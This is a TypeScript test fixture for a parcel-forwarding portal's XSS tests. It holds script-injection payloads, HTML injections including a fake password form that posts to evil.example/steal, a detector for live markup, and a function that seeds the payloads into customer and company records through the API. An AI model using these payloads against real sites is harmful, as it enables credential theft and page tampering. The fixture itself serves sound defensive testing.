// Hostile payloads for the XSS tests: the SafeHtml unit test (tests/ui) and the browser spec
// (e2e/content/xss.spec.ts), which seeds them as a customer would (the API) and where only the
// company writes (the demo-mode route api/dev/hostile-content). No Playwright at run time here:
// the unit test imports this file too.
import type { APIRequestContext, APIResponse } from '@playwright/test';
import { PDF } from './files.ts';

declare global {
  interface Window {
    /** Set by any payload that runs. */
    __xss?: unknown;
    /** The CSP violations a browser test collects. */
    __cspViolations?: string[];
  }
}

/** Each one sets `window.__xss` if it ever runs. */
export const XSS_PAYLOADS = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=1</script>',
  '<svg onload="window.__xss=1">',
  '<a href="javascript:window.__xss=1">click</a>',
  '"><iframe src="javascript:window.__xss=1">',
] as const;

/** Markup that restyles the page, steals a password or navigates away, for the HTML fields. */
export const HTML_INJECTIONS = [
  '<style>body{display:none !important}</style>',
  '<form action="https://evil.example/steal"><input name="password" placeholder="Contraseña"><button>Enviar</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
] as const;

/** A tracking number a customer could type, with tags a message would read as its own. */
export const HOSTILE_TRACKING = '<script>window.__xss=1</script><0>x</0>';

const [img, script, svg, link, iframe] = XSS_PAYLOADS;
/**
 * What goes into every plain-text field: the portal must show it exactly, as text. The payloads
 * that run without a click, short enough for the shortest field it fills (a name: NAME_MAX, 100).
 */
export const HOSTILE_TEXT = [img, script, svg].join(' ');
/**
 * What is appended to every HTML field (after the original, harmless markup): all of the above,
 * the iframe closed and the unclosed <svg> last, so none swallows the next as its content.
 */
export const HOSTILE_HTML = [...HTML_INJECTIONS, img, script, link, `${iframe}</iframe>`, svg].join('');

/**
 * What in `root` could run or act: forbidden elements, on* attributes, javascript: URLs. Self-
 * contained (no outer names), so Playwright can run it in the page as well as a test in jsdom.
 */
export function liveMarkup(root: Element): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('script, iframe, frame, object, embed, style, link, meta, base, form, input, button, textarea, select')) {
    found.push(`<${element.tagName.toLowerCase()}>`);
  }
  for (const element of [root, ...root.querySelectorAll('*')]) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      // Browsers skip spaces and control characters in a URL's scheme: so does this check.
      const value = [...attribute.value].filter((char) => char > ' ').join('').toLowerCase();
      if (name.startsWith('on')) found.push(`${element.tagName.toLowerCase()}[${name}]`);
      if (/^(?:javascript|vbscript):/.test(value) && /^(?:href|src|action|formaction|xlink:href|srcdoc|data)$/.test(name)) {
        found.push(`${element.tagName.toLowerCase()}[${name}=${attribute.value}]`);
      }
    }
  }
  return found;
}

async function ok(response: APIResponse, what: string): Promise<APIResponse> {
  if (!response.ok()) throw new Error(`${what}: ${response.status()} ${await response.text()}`);
  return response;
}

async function dataOf<T>(response: Promise<APIResponse>, what: string): Promise<T> {
  return ((await (await ok(await response, what)).json()) as { data: T }).data;
}

/** A state and a city of Venezuela, looked up as the sign-up form does. */
async function caracasArea(request: APIRequestContext) {
  const countries = await dataOf<{ id: number; iso_code: string }[]>(request.get('/api/countries'), 'countries');
  const venezuela = countries.find((country) => country.iso_code === 'VE');
  if (!venezuela) throw new Error('no Venezuela');
  const [state] = await dataOf<{ id: number }[]>(request.get(`/api/countries/${venezuela.id}/states`), 'states');
  const [city] = await dataOf<{ id: number }[]>(request.get(`/api/countries/${venezuela.id}/states/${state!.id}/cities`), 'cities');
  return { country_id: venezuela.id, state_id: state!.id, city_id: city!.id };
}

/** A tiny PDF: the server only reads the first bytes to tell the type. */

export type HostileRecords = { package_id: number; shipment_id: number; invoice_id: number; payment_method_id: number; tracking: string; pre_alert_id: number };

/**
 * For an account that exists (see createAccount), what the customer writes, made hostile through
 * the API (profile, a recipient, a pre-alert, a payment), and the company's content (api/dev/hostile-content).
 */
export async function seedHostileCustomer(request: APIRequestContext, email: string, password: string): Promise<HostileRecords> {
  const { token } = await dataOf<{ token: string }>(request.post('/api/auth/token', { data: { email, password } }), 'sign in');
  const headers = { Authorization: `Bearer ${token}` };
  const place = await caracasArea(request);
  const person = { name: HOSTILE_TEXT, last_name: HOSTILE_TEXT, phone: '+584121234567', address: HOSTILE_TEXT, ...place, type: 'PERSON' };
  await ok(
    await request.post('/api/clients', {
      headers,
      data: { ...person, email, document_id: 'V-12345678', birth_date: '1990-05-17', referral_source: HOSTILE_TEXT, terms_accepted: true },
    }),
    'profile',
  );
  await ok(
    await request.post('/api/recipients', {
      headers,
      data: { ...person, document_id: 'V-7654321', email: null, landline_phone: null, address_2: HOSTILE_TEXT, zip_code: '1050' },
    }),
    'recipient',
  );
  const [courier] = await dataOf<{ id: number }[]>(request.get('/api/us-couriers'), 'couriers');
  const preAlert = await dataOf<{ id: number }>(
    request.post('/api/pre-alerts', {
      headers,
      multipart: {
        us_courier_id: String(courier!.id),
        provider: HOSTILE_TEXT,
        // Shown in the detail's heading, a <Trans> message: a short payload (the limit is 100).
        tracking: HOSTILE_TRACKING,
        cost: '12.50',
        content: HOSTILE_TEXT,
        arriving_at: new Date(Date.now() + 3 * 86_400_000).toISOString().slice(0, 10),
        recipient: HOSTILE_TEXT,
        // The bill's name is shown on the pre-alert too.
        invoice: { name: `${HOSTILE_TEXT}.pdf`, mimeType: 'application/pdf', buffer: PDF },
      },
    }),
    'pre-alert',
  );
  const records = await dataOf<Omit<HostileRecords, 'pre_alert_id'>>(
    request.post('/api/dev/hostile-content', { data: { email, text: HOSTILE_TEXT, html: HOSTILE_HTML } }),
    'hostile content',
  );
  // A payment of the hostile invoice, with the hostile method and reference, as the checkout sends it.
  await ok(
    await request.post(`/api/invoices/${records.invoice_id}/payments`, {
      headers,
      multipart: {
        payment_method_id: String(records.payment_method_id),
        amount: '1.00',
        reference: HOSTILE_TEXT,
        multimedia: { name: `${HOSTILE_TEXT}.pdf`, mimeType: 'application/pdf', buffer: PDF },
      },
    }),
    'payment',
  );
  return { ...records, pre_alert_id: preAlert.id };
}

/** Puts the company's content back as it was (demo mode). */
export async function restoreContent(request: APIRequestContext): Promise<void> {
  await ok(await request.delete('/api/dev/hostile-content'), 'restore content');
}
